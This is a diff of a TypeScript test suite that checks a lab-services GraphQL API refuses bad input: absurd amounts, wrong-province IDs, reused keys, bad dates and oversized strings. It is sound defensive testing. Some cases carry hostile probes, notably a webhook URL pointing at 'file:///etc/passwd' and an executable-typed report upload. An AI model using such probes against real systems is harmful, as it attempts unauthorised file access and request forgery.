+  { input: 'revokeCalendarFeed(id)', as: 'li.wei', verdicts: UNKNOWN_ID, request: (v) => ({ query: 'mutation($id: ID!) { revokeCalendarFeed(id: $id) { id } }', variables: { id: v } }) },
 ];
 
 // ---------- the cases ----------
@@ -1093,6 +1513,303 @@ describe('hostile text in every string input', () => {
   describe('instruments and labs', () => cases(hostileText(REGISTRY_INPUTS)));
   // An accepted hostile value changes this file's own copy of the catalogue only (each test file has its own databases).
   describe('the recognition catalogue', () => cases(hostileText(CATALOGUE_INPUTS)));
+});
+
+describe('hostile text in the service, charge and voucher areas', () => {
+  describe('offerings and prices', () => cases(hostileText(OFFERING_INPUTS)));
+  describe('service requests and reports', () => cases(hostileText(SERVICE_REQUEST_INPUTS)));
+  describe('charges and statements', () => cases(hostileText(CHARGE_INPUTS)));
+  describe('vouchers', () => cases(hostileText(VOUCHER_INPUTS)));
+  describe('webhook subscriptions and events', () => cases(hostileText(WEBHOOK_INPUTS)));
+  describe('external sign-in and calendar feeds', () => cases(hostileText(SIGN_IN_ELSEWHERE_INPUTS)));
+});
+
+describe('absurd amounts and counts', () => {
+  /** Fen amounts no price, quote, credit or voucher may be: GraphQL refuses what is no 32-bit integer, the service the rest. */
+  const ABSURD: readonly [string, unknown, Refusal][] = [
+    ['-1 fen', -1, BAD_USER_INPUT],
+    ['2^31 fen', 2 ** 31, BAD_VARIABLE],
+    ['2^53 + 1 fen', 2 ** 53 + 1, BAD_VARIABLE],
+    ['12.5 fen', 12.5, BAD_VARIABLE],
+    ['"NaN" fen', 'NaN', BAD_VARIABLE],
+    ['"1e3" fen', '1e3', BAD_VARIABLE],
+  ];
+  const each = (what: string, request: (amount: unknown, m: string) => RequestSpec | Promise<RequestSpec>, as: Who, zero: Refusal | null): Case[] => [
+    ...(zero ? [['0 fen', 0, zero] as const] : []),
+    ...ABSURD,
+  ].map(([name, amount, expect]) => ({ name: `${what} of ${name}`, as, guard: true, request: (m: string) => request(amount, m), expect }));
+  const price = (amountFen: unknown) => SC_STANDARD.map((entry, i) => (i === 0 ? { ...entry, amountFen } : entry));
+  cases([
+    ...each('a price', (a, m) => op(CREATE_OFFERING, { input: { ...validOffering(m), prices: price(a) } }), 'sc.admin', null),
+    { name: 'a price of 100 000 001 fen', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), prices: price(100_000_001) } }), expect: BAD_USER_INPUT },
+    ...each('new prices', (a) => op('mutation($id: ID!, $p: [PriceInput!]!) { setSichuanOfferingPrices(id: $id, prices: $p) { id } }', { id: sx.scOffering, p: price(a) }), 'sc.admin', null),
+    ...each('a quote', async (a) => op(QUOTE, { id: sx.scRequest, a, u: daysFromNow(20) }), 'sc.admin', BAD_USER_INPUT),
+    ...each('a credit', (a) => op(CREDIT, { id: sx.scCharge, a, r: 'Goodwill' }), 'sc.admin', BAD_USER_INPUT),
+    { name: 'a credit of more than the charge comes to', as: 'sc.admin', guard: true, request: () => op(CREDIT, { id: sx.scCharge, a: 40_001, r: 'Goodwill' }), expect: refused(['BAD_USER_INPUT', 'CONFLICT']) },
+    ...each('a voucher', (a, m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), amountFen: a } }), 'sc.admin', BAD_USER_INPUT),
+    ...each('a reservation', (a) => op(RESERVE, { ...validReserve(), a }), 'chen.jing', BAD_USER_INPUT),
+    ...each('a reserved charge', (c) => op(RESERVE, { ...validReserve(), c }), 'chen.jing', BAD_USER_INPUT),
+    ...each('a voucher payment', (a, m) => op(PAY, { ...validPay(m), a }), 'chen.jing', BAD_USER_INPUT),
+    ...each('a paid charge', (c, m) => op(PAY, { ...validPay(m), c }), 'chen.jing', BAD_USER_INPUT),
+    { name: 'a voucher paying more than the charge', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), a: 40_001 }), expect: BAD_USER_INPUT },
+    { name: 'a payment naming another amount than the charge comes to', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), c: 1_000_000, a: 400_000 }), expect: refused(['BAD_USER_INPUT', 'CONFLICT']) },
+    { name: 'a voucher paying its own voucher charge past 2^31 in total', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), c: 2 ** 31 - 1, a: 2 ** 31 - 1 }), expect: refused(['BAD_USER_INPUT', 'CONFLICT']) },
+    ...[0, -1, 101].map((percent): Case => ({ name: `a voucher paying ${percent}% of a charge`, as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), maxSharePercent: percent } }), expect: BAD_USER_INPUT })),
+    ...[0, -1, 3_601].map((seconds): Case => ({ name: `a hold expiring in ${seconds} s`, as: 'chen.jing', guard: true, request: () => op(RESERVE, { ...validReserve(), e: seconds }), expect: BAD_USER_INPUT })),
+    ...[0, -1, 1_001].map((count): Case => ({ name: `${count} samples`, as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), sampleCount: count } }), expect: BAD_USER_INPUT })),
+    { name: '2^31 samples', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), sampleCount: 2 ** 31 } }), expect: BAD_VARIABLE },
+    ...[0, -1, 366].map((days): Case => ({ name: `a turnaround of ${days} days`, as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), turnaroundDays: days } }), expect: BAD_USER_INPUT })),
+    { name: 'a concentration of NaN', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [{ name: 'organism', value: 'Rice' }, { name: 'concentration', value: 'NaN' }] } }), expect: BAD_USER_INPUT },
+    { name: 'a concentration of Infinity', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [{ name: 'organism', value: 'Rice' }, { name: 'concentration', value: 'Infinity' }] } }), expect: BAD_USER_INPUT },
+    { name: 'a concentration of 1e400', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [{ name: 'organism', value: 'Rice' }, { name: 'concentration', value: '1e400' }] } }), expect: BAD_USER_INPUT },
+    { name: 'a time band from hour 25', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), kind: 'SELF_OPERATED', sampleForm: [], prices: [...SC_STANDARD, { category: 'ENTERPRISE', band: 'NIGHT', fromHour: 25, toHour: 26, amountFen: 1 }] } }), expect: BAD_USER_INPUT },
+    { name: 'a time band from hour -1', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), kind: 'SELF_OPERATED', sampleForm: [], prices: [...SC_STANDARD, { category: 'ENTERPRISE', band: 'NIGHT', fromHour: -1, toHour: 6, amountFen: 1 }] } }), expect: BAD_USER_INPUT },
+    { name: 'service requests first: 0', as: 'sc.admin', request: () => op('{ sichuan { serviceRequests(first: 0) { totalCount } } }'), expect: BAD_USER_INPUT },
+    { name: 'vouchers first: -1', as: 'sc.admin', request: () => op('{ sichuan { vouchers(first: -1) { totalCount } } }'), expect: BAD_USER_INPUT },
+    { name: 'voucher holds first: -2147483648', as: 'sc.admin', request: () => op('query($f: Int) { sichuan { voucherHolds(first: $f) { totalCount } } }', { f: -(2 ** 31) }), expect: BAD_USER_INPUT },
+    { name: 'events first: 0', as: 'sc.admin', request: () => op('{ sichuan { events(first: 0) { edges { cursor } } } }'), expect: BAD_USER_INPUT },
+    { name: 'service requests after: a forged cursor', as: 'sc.admin', request: () => op('query($a: String) { sichuan { serviceRequests(after: $a) { totalCount } } }', { a: cursor(['yesterday', 'x']) }), expect: BAD_USER_INPUT },
+    { name: 'vouchers after: a forged cursor', as: 'sc.admin', request: () => op('query($a: String) { sichuan { vouchers(after: $a) { totalCount } } }', { a: cursor(['2026-01-01T00:00:00Z', 'not-a-uuid']) }), expect: BAD_USER_INPUT },
+    { name: 'events after: a position beyond bigint', as: 'sc.admin', request: () => op('query($a: String) { sichuan { events(after: $a) { edges { cursor } } } }', { a: cursor(['9999999999999999999']) }), expect: BAD_USER_INPUT },
+  ]);
+});
+
+describe('ids of the wrong province or type: services, charges and vouchers', () => {
+  const read = (field: string, id: string) => op(`query($id: ID!) { sichuan { ${field}(id: $id) { id } } }`, { id });
+  cases([
+    { name: 'a Chongqing offering asked of Sichuan', targets: BOTH, request: () => read('offering', sx.cqOffering), expect: BAD_USER_INPUT },
+    { name: 'an instrument id as an offering id', request: () => read('offering', fx.scInstrument), expect: BAD_USER_INPUT },
+    { name: 'offerings of a Chongqing instrument asked of Sichuan', request: () => op('query($id: ID) { sichuan { offerings(instrumentId: $id) { id } } }', { id: fx.cqInstrument }), expect: BAD_USER_INPUT },
+    { name: 'a service request id that is a charge', as: 'chen.jing', request: () => read('serviceRequest', sx.scCharge), expect: BAD_USER_INPUT },
+    { name: 'a charge id that is a service request', as: 'chen.jing', request: () => read('charge', sx.scRequest), expect: BAD_USER_INPUT },
+    { name: 'a Chongqing charge asked of Sichuan', as: 'li.wei', targets: BOTH, request: () => read('charge', sx.cqCharge), expect: BAD_USER_INPUT },
+    { name: 'a Sichuan voucher asked of Chongqing', as: 'chen.jing', targets: ['gateway', 'chongqing'], request: () => op('query($id: ID!) { chongqing { voucher(id: $id) { id } } }', { id: sx.scVoucher }), expect: BAD_USER_INPUT },
+    { name: 'a statement of a payer id that is an instrument', as: 'sc.admin', request: () => op(STATEMENT, { p: fx.scInstrument, from: daysFromNow(-30), to: daysFromNow(1) }), expect: BAD_USER_INPUT },
+    { name: 'an offering on a Chongqing instrument', as: 'sc.admin', targets: BOTH, guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), instrumentId: fx.cqInstrument } }), expect: BAD_USER_INPUT },
+    { name: 'an offering of a Chongqing lab', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), kind: 'CONSULTATION', sampleForm: [], instrumentId: null, labId: fx.cqLab } }), expect: BAD_USER_INPUT },
+    { name: 'an offering on a lab id given as the instrument', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), instrumentId: fx.scLab } }), expect: BAD_USER_INPUT },
+    { name: 'an offering on an instrument and a lab at once', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), labId: fx.scLab } }), expect: BAD_USER_INPUT },
+    { name: 'an offering on neither instrument nor lab', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), instrumentId: null } }), expect: BAD_USER_INPUT },
+    { name: 'an offering on an instrument that does not exist', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), instrumentId: scId('instrument') } }), expect: refused(['NOT_FOUND', 'BAD_USER_INPUT']) },
+    { name: 'changing a Chongqing offering in Sichuan', as: 'sc.admin', guard: true, request: (m) => op('mutation($id: ID!, $n: String) { updateSichuanOffering(id: $id, input: { name: $n }) { id } }', { id: sx.cqOffering, n: m }), expect: BAD_USER_INPUT },
+    { name: 'prices of a Chongqing offering set in Sichuan', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!, $p: [PriceInput!]!) { setSichuanOfferingPrices(id: $id, prices: $p) { id } }', { id: sx.cqOffering, p: SC_STANDARD }), expect: BAD_USER_INPUT },
+    { name: 'a request for a Chongqing offering sent to Sichuan', as: 'chen.jing', targets: BOTH, guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), offeringId: sx.cqOffering } }), expect: BAD_USER_INPUT },
+    { name: 'a request naming an instrument as its offering', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), offeringId: fx.scInstrument } }), expect: BAD_USER_INPUT },
+    { name: 'a request for an offering that does not exist', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), offeringId: scId('offering') } }), expect: NOT_FOUND },
+    { name: 'quoting a booking', as: 'sc.admin', guard: true, request: () => op(QUOTE, { id: fx.scBooking, a: 1_000, u: daysFromNow(20) }), expect: BAD_USER_INPUT },
+    { name: 'quoting a request that does not exist', as: 'sc.admin', guard: true, request: () => op(QUOTE, { id: scId('servicerequest'), a: 1_000, u: daysFromNow(20) }), expect: NOT_FOUND },
+    { name: 'accepting an offering', as: 'chen.jing', guard: true, request: () => op('mutation($id: ID!) { acceptSichuanServiceQuote(id: $id) { id } }', { id: sx.scOffering }), expect: BAD_USER_INPUT },
+    { name: 'a report for a Chongqing request id in Sichuan', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_REPORT, { id: cqId('servicerequest'), r: validReport(m) }), expect: BAD_USER_INPUT },
+    { name: 'crediting a Chongqing charge in Sichuan', as: 'sc.admin', targets: BOTH, guard: true, request: () => op(CREDIT, { id: sx.cqCharge, a: 100, r: 'Goodwill' }), expect: BAD_USER_INPUT },
+    { name: 'crediting a service request', as: 'sc.admin', guard: true, request: () => op(CREDIT, { id: sx.scRequest, a: 100, r: 'Goodwill' }), expect: BAD_USER_INPUT },
+    { name: 'crediting a charge that does not exist', as: 'sc.admin', guard: true, request: () => op(CREDIT, { id: scId('charge'), a: 100, r: 'Goodwill' }), expect: NOT_FOUND },
+    { name: 'paying a Chongqing charge in Sichuan', as: 'li.wei', targets: BOTH, guard: true, request: (m) => op(PAY, { ...validPay(m), ref: sx.cqCharge }), expect: BAD_USER_INPUT },
+    { name: 'paying a service request as if a charge', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), ref: sx.scRequest }), expect: BAD_USER_INPUT },
+    { name: 'paying with an instrument as the voucher', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), v: fx.scInstrument }), expect: BAD_USER_INPUT },
+    { name: 'paying with a voucher of no province', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), v: `xx:voucher:${randomUUID()}` }), expect: BAD_USER_INPUT },
+    // Not guarded: the serving side records its intent before it asks the issuer, and keeps the refusal it answered.
+    { name: 'paying with a voucher that does not exist', as: 'chen.jing', request: (m) => op(PAY, { ...validPay(m), v: cqId('voucher') }), expect: refused(['NOT_FOUND', 'CONFLICT']) },
+    { name: 'paying a charge that does not exist', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), ref: scId('charge') }), expect: NOT_FOUND },
+    { name: 'reserving a Sichuan voucher on Chongqing', as: 'chen.jing', targets: ['gateway', 'chongqing'], guard: true, request: () => op(RESERVE, { ...validReserve(), v: sx.scVoucher }), expect: BAD_USER_INPUT },
+    { name: 'capturing a hold of a Sichuan voucher on Chongqing', targets: ['gateway', 'chongqing'], guard: true, request: () => op(HOLD_STEP('capture'), { v: sx.scVoucher, k: randomUUID(), s: 'SICHUAN' }), expect: BAD_USER_INPUT },
+    { name: 'a voucher for a holder id that is an instrument', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), holderUserId: fx.scInstrument } }), expect: BAD_USER_INPUT },
+    { name: 'a voucher for a holder the platform does not know', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), holderUserId: randomUUID() } }), expect: BAD_USER_INPUT },
+    // The platform's answer for a client it does not know, as for a grant to one.
+    { name: 'a webhook of a client the platform does not know', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), clientId: `nobody-${m}` } }), expect: refused('FORBIDDEN') },
+    // Subscriptions and feeds are named by bare UUIDs: a global id of anything names none of them.
+    { name: 'changing a Chongqing webhook in Sichuan', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!) { updateSichuanWebhookSubscription(id: $id, input: { active: false }) { id } }', { id: cqId('webhookSubscription') }), expect: NOT_FOUND },
+    { name: 'deleting an instrument as a webhook', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!) { deleteSichuanWebhookSubscription(id: $id) }', { id: fx.scInstrument }), expect: NOT_FOUND },
+    { name: 'revoking a calendar feed that is a booking', as: 'chen.jing', targets: ['gateway', 'platform'], request: () => op('mutation($id: ID!) { revokeCalendarFeed(id: $id) { id } }', { id: fx.scBooking }), expect: NOT_FOUND },
+  ]);
+});
+
+describe('reused idempotency keys and hold keys: services and vouchers', () => {
+  /** Sends `first` once (it must succeed), then the same key with `change`. */
+  const again = (query: string, who: Who, first: (m: string) => Record<string, unknown>, change: () => Record<string, unknown> | Promise<Record<string, unknown>>) => async (m: string) => {
+    const variables = first(m);
+    await must(query, fx.tokens[who], variables);
+    return op(query, { ...variables, ...(await change()) });
+  };
+  const submitted = (m: string) => ({ input: validRequest(m) });
+  const resubmitted = (change: Record<string, unknown>) => async (m: string) => {
+    const first = validRequest(m);
+    await must(SUBMIT, fx.tokens['chen.jing'], { input: first });
+    return op(SUBMIT, { input: { ...first, ...change } });
+  };
+  cases([
+    { name: 'a request key reused with another description', as: 'chen.jing', targets: BOTH, guard: true, request: resubmitted({ description: 'Something else entirely' }), expect: CONFLICT },
+    { name: 'a request key reused with another sample count', as: 'chen.jing', guard: true, request: resubmitted({ sampleCount: 4 }), expect: CONFLICT },
+    { name: 'a request key reused with other form values', as: 'chen.jing', guard: true, request: resubmitted({ formValues: [{ name: 'organism', value: 'Zea mays' }, { name: 'concentration', value: '52.5' }] }), expect: CONFLICT },
+    { name: 'a request key reused for another offering', as: 'chen.jing', guard: true, request: resubmitted({ offeringId: scId('offering') }), expect: CONFLICT },
+    // Keys are each requester's own: the same key from someone else is their own new request.
+    { name: 'a request key used by someone else', as: 'li.wei', request: async (m) => { await must(SUBMIT, fx.tokens['chen.jing'], submitted(m)); return op(SUBMIT, submitted(m)); }, expect: { ok: (data) => expect(data.result.id).toMatch(/^sc:servicerequest:/) } },
+    { name: 'a payment key reused with another amount', as: 'chen.jing', targets: BOTH, guard: true, request: again(PAY, 'chen.jing', validPay, () => ({ a: 200 })), expect: CONFLICT },
+    { name: 'a payment key reused with another voucher', as: 'chen.jing', guard: true, request: again(PAY, 'chen.jing', validPay, () => ({ v: sx.scVoucher })), expect: CONFLICT },
+    { name: 'a payment key reused for another charge', as: 'chen.jing', guard: true, request: again(PAY, 'chen.jing', validPay, async () => ({ ref: await chargeFor(sql, 'sichuan', 40_000) })), expect: CONFLICT },
+    { name: 'a hold key reused with another amount', as: 'chen.jing', targets: ['gateway', 'chongqing'], guard: true, request: again(RESERVE, 'chen.jing', validReserve, () => ({ a: 200 })), expect: CONFLICT },
+    { name: 'a hold key reused for another charge', as: 'chen.jing', guard: true, request: again(RESERVE, 'chen.jing', validReserve, () => ({ ref: 'CHG-OTHER' })), expect: CONFLICT },
+    { name: 'a hold key reused for another serving province', as: 'chen.jing', guard: true, request: again(RESERVE, 'chen.jing', validReserve, () => ({ s: 'CHONGQING' })), expect: CONFLICT },
+  ]);
+});
+
+describe('unknown enum-like values: services, charges and vouchers', () => {
+  cases([
+    { name: 'an offering kind that does not exist', as: 'sc.admin', targets: BOTH, guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), kind: 'EXPLODED' } }), expect: BAD_VARIABLE },
+    { name: 'a customer category that does not exist', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), prices: [...SC_STANDARD, { category: 'ALIEN', amountFen: 1 }] } }), expect: BAD_VARIABLE },
+    { name: 'a sample field type that does not exist', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), sampleForm: [{ name: 'photo', label: 'Photo', type: 'IMAGE' }] } }), expect: BAD_VARIABLE },
+    { name: 'a band in small letters', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), kind: 'SELF_OPERATED', sampleForm: [], prices: [...SC_STANDARD, { category: 'ENTERPRISE', band: 'evening', fromHour: 18, toHour: 22, amountFen: 1 }] } }), expect: BAD_USER_INPUT },
+    { name: 'a sample form field named twice', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), sampleForm: [validOffering(m).sampleForm[0], validOffering(m).sampleForm[0]] } }), expect: BAD_USER_INPUT },
+    { name: 'an offering kind literal that does not exist', targets: BOTH, request: () => op('{ sichuan { offerings(kind: EXPLODED) { id } } }'), expect: VALIDATION_FAILED },
+    { name: 'a service request status that does not exist', as: 'sc.admin', request: () => op('query($s: ServiceRequestStatus) { sichuan { serviceRequests(status: $s) { totalCount } } }', { s: 'PAID' }), expect: BAD_VARIABLE },
+    { name: 'a serving province that does not exist', as: 'chen.jing', targets: ['gateway', 'chongqing'], guard: true, request: () => op(RESERVE, { ...validReserve(), s: 'BEIJING' }), expect: BAD_VARIABLE },
+    { name: 'a voucher accepted in a province that does not exist', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), acceptedIn: ['TIBET'] } }), expect: BAD_VARIABLE },
+    { name: 'a voucher accepted nowhere', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), acceptedIn: [] } }), expect: BAD_USER_INPUT },
+    { name: 'a hold status that does not exist', as: 'sc.admin', request: () => op('query($s: VoucherHoldStatus) { sichuan { voucherHolds(status: $s) { totalCount } } }', { s: 'STOLEN' }), expect: BAD_VARIABLE },
+    { name: 'a form value of a field the offering does not ask', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [...validRequest(m).formValues, { name: 'colour', value: 'red' }] } }), expect: BAD_USER_INPUT },
+    { name: 'a required form value left out', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [{ name: 'organism', value: 'Rice' }] } }), expect: BAD_USER_INPUT },
+    { name: 'a form value given twice', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [...validRequest(m).formValues, { name: 'organism', value: 'Maize' }] } }), expect: BAD_USER_INPUT },
+    { name: 'a date form value of 30 February', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [...validRequest(m).formValues, { name: 'collectedOn', value: '2026-02-30' }] } }), expect: BAD_USER_INPUT },
+    { name: 'a report whose type is an executable', as: 'sc.admin', guard: true, request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), contentType: 'application/x-msdownload' } }), expect: BAD_USER_INPUT },
+    { name: 'a PDF sent as a PNG', as: 'sc.admin', guard: true, request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), contentType: 'image/png' } }), expect: BAD_USER_INPUT },
+    { name: 'a report that is not base64', as: 'sc.admin', guard: true, request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), contentBase64: '%%%not base64%%%' } }), expect: BAD_USER_INPUT },
+    { name: 'an empty report', as: 'sc.admin', guard: true, request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), contentBase64: '' } }), expect: BAD_USER_INPUT },
+    { name: 'a report for a request not yet started', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_REPORT, { id: sx.scRequest, r: validReport(m) }), expect: CONFLICT },
+    { name: 'a webhook for an event type that does not exist', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), eventTypes: ['booking.exploded'] } }), expect: BAD_USER_INPUT },
+    { name: 'a webhook for no event type', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), eventTypes: [] } }), expect: BAD_USER_INPUT },
+    { name: 'a webhook to a file: address', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), url: 'file:///etc/passwd' } }), expect: BAD_USER_INPUT },
+    { name: 'an identity provider that is not configured', targets: ['gateway', 'platform'], request: () => op('mutation { beginExternalSignIn(provider: "evil", redirectUri: "http://127.0.0.1:5173/signed-in") { state } }'), expect: BAD_USER_INPUT },
+  ]);
+});
+
+describe('dates out of range: services, charges and vouchers', () => {
+  const statement = (from: string, to: string) => () => op(STATEMENT, { from, to });
+  cases([
+    { name: 'a request needed yesterday', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), neededBy: daysFromNow(-1) } }), expect: BAD_USER_INPUT },
+    { name: 'a request needed in 400 days', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), neededBy: daysFromNow(400) } }), expect: BAD_USER_INPUT },
+    { name: 'a request needed in the year 9999', as: 'chen.jing', targets: BOTH, guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), neededBy: '9999-12-31T23:59:59Z' } }), expect: refused('BAD_USER_INPUT', [200, 400]) },
+    { name: 'a quote valid until yesterday', as: 'sc.admin', guard: true, request: () => op(QUOTE, { id: sx.scRequest, a: 1_000, u: daysFromNow(-1) }), expect: BAD_USER_INPUT },
+    { name: 'a quote valid for 200 days', as: 'sc.admin', guard: true, request: () => op(QUOTE, { id: sx.scRequest, a: 1_000, u: daysFromNow(200) }), expect: BAD_USER_INPUT },
+    { name: 'a voucher valid until before it is valid from', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), validFrom: daysFromNow(10), validUntil: daysFromNow(5) } }), expect: BAD_USER_INPUT },
+    { name: 'a voucher valid from 1970 to 2100', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), validFrom: '1970-01-01T00:00:00Z', validUntil: '2100-01-01T00:00:00Z' } }), expect: BAD_USER_INPUT },
+    { name: 'a voucher valid from the year 1', as: 'sc.admin', targets: BOTH, guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), validFrom: '0001-01-01T00:00:00Z' } }), expect: refused('BAD_USER_INPUT', [200, 400]) },
+    { name: 'a voucher that ended ten years ago', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), validFrom: daysFromNow(-3700), validUntil: daysFromNow(-3650) } }), expect: BAD_USER_INPUT },
+    { name: 'a statement that ends before it starts', as: 'chen.jing', request: statement(daysFromNow(0), daysFromNow(-10)), expect: BAD_USER_INPUT },
+    { name: 'a statement over ten years', as: 'chen.jing', request: statement('2020-01-01T00:00:00Z', '2030-01-01T00:00:00Z'), expect: BAD_USER_INPUT },
+    { name: 'a charges export over 400 days', as: 'sc.admin', request: () => op('query($from: DateTime!, $to: DateTime!) { sichuan { chargesCsv(from: $from, to: $to) } }', { from: daysFromNow(-400), to: daysFromNow(0) }), expect: BAD_USER_INPUT },
+    { name: 'a settlement that ends before it starts', as: 'sc.admin', request: () => op(SETTLEMENT, { from: daysFromNow(0), to: daysFromNow(-10) }), expect: BAD_USER_INPUT },
+    { name: 'a settlement over a hundred years', as: 'sc.admin', request: () => op(SETTLEMENT, { from: '1990-01-01T00:00:00Z', to: '2090-01-01T00:00:00Z' }), expect: BAD_USER_INPUT },
+    { name: 'a price at the year 1', targets: BOTH, request: () => op('query($id: ID!, $at: DateTime) { sichuan { offering(id: $id) { priceForMe(at: $at) { amountFen } } } }', { id: sx.scOffering, at: '0001-01-01T00:00:00Z' }), expect: refused('BAD_USER_INPUT', [200, 400]) },
+    { name: 'webhook deliveries replayed from the future', as: 'sc.admin', guard: true, request: () => op('mutation($id: ID!, $from: DateTime!) { replaySichuanWebhookDeliveries(id: $id, from: $from) }', { id: sx.scSubscription, from: daysFromNow(10) }), expect: BAD_USER_INPUT },
+    {
+      name: 'accepting a quote after it lapsed',
+      as: 'chen.jing',
+      guard: true,
+      request: async () => {
+        const id = await requestAt('QUOTED');
+        await sql('sichuan', "UPDATE service_requests SET quote_valid_until = now() - interval '1 day' WHERE id = $1", [localIdOf(id)]);
+        return op('mutation($id: ID!) { acceptSichuanServiceQuote(id: $id) { id } }', { id });
+      },
+      expect: CONFLICT,
+    },
+    { name: 'accepting a quote twice', as: 'chen.jing', guard: true, request: async () => op('mutation($id: ID!) { acceptSichuanServiceQuote(id: $id) { id } }', { id: await requestAt('ACCEPTED') }), expect: CONFLICT },
+    // Not guarded: the serving side records its intent before it asks the issuer, and keeps the refusal it answered.
+    {
+      name: 'paying with a voucher not valid yet',
+      as: 'chen.jing',
+      request: async (m) => op(PAY, { ...validPay(m), v: await issueVoucher(testSystem().gatewayUrl, tokenFor, 'chongqing', { validFrom: new Date(Date.now() + 5 * 86_400_000), validUntil: new Date(Date.now() + 9 * 86_400_000) }) }),
+      expect: CONFLICT,
+    },
+    { name: 'paying more of a charge than the voucher may (its share)', as: 'chen.jing', request: (m) => op(PAY, { ...validPay(m), a: 20_001 }), expect: CONFLICT },
+  ]);
+});
+
+describe('oversized strings: services, charges and vouchers', () => {
+  const huge = (length: number) => 'x'.repeat(length);
+  cases([
+    { name: 'a 2 001-character request description', as: 'chen.jing', targets: BOTH, guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), description: `${m}${huge(2_000)}` } }), expect: BAD_USER_INPUT },
+    { name: 'a 900 KB request description', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), description: `${m}${huge(900_000)}` } }), expect: BAD_USER_INPUT },
+    { name: 'a 100 000-character form value', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: [{ name: 'organism', value: huge(100_000) }, { name: 'concentration', value: '1' }] } }), expect: BAD_USER_INPUT },
+    { name: '10 000 form values', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), formValues: Array.from({ length: 10_000 }, (_, i) => ({ name: `f${i}`, value: 'x' })) } }), expect: BAD_USER_INPUT },
